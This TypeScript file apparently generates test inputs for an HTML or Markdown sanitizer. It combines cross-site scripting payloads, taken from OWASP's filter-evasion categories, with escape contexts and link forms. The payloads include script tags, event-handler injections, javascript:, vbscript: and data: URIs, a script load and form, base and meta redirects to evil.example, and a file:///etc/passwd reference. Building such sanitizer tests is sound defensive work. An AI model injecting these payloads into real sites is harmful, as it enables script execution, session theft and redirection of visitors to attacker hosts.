/**
 * Texts that would do something in a page: every kind of element in every kind of way out of where
 * it stands, and every kind of address. Made by combination, in the kinds that OWASP tells apart:
 * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 */
const elements = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=a><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

const waysOut: readonly ((active: string) => string)[] = [
  (active) => active,
  (active) => `"${active}`,
  (active) => `">${active}`,
  (active) => `'>${active}`,
  (active) => `</td></tr></table>${active}`,
  (active) => `</title></style></textarea>${active}`,
  (active) => `--><![endif]-->${active}<!--`,
  (active) => `<!--[if mso]>${active}<![endif]-->`,
  (active) => `\`${active}\` <<${active.slice(1)}`,
  (active) => active.replace('<', '<\u0000').replace(' ', '\t/\n'),
  (active) => active.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'javascript://www.viag.nl/%0aalert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https://www.viag.nl@evil.example/',
  'https://www.viag.nl/" onmouseover="alert(1)',
  "https://www.viag.nl/' style='x",
];

const inAddresses: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `![x](<${address}>)`,
];

export const payloads: readonly string[] = [
  ...elements.flatMap((element) => waysOut.map((out) => out(element))),
  ...addresses.flatMap((address) => inAddresses.map((written) => written(address))),
];
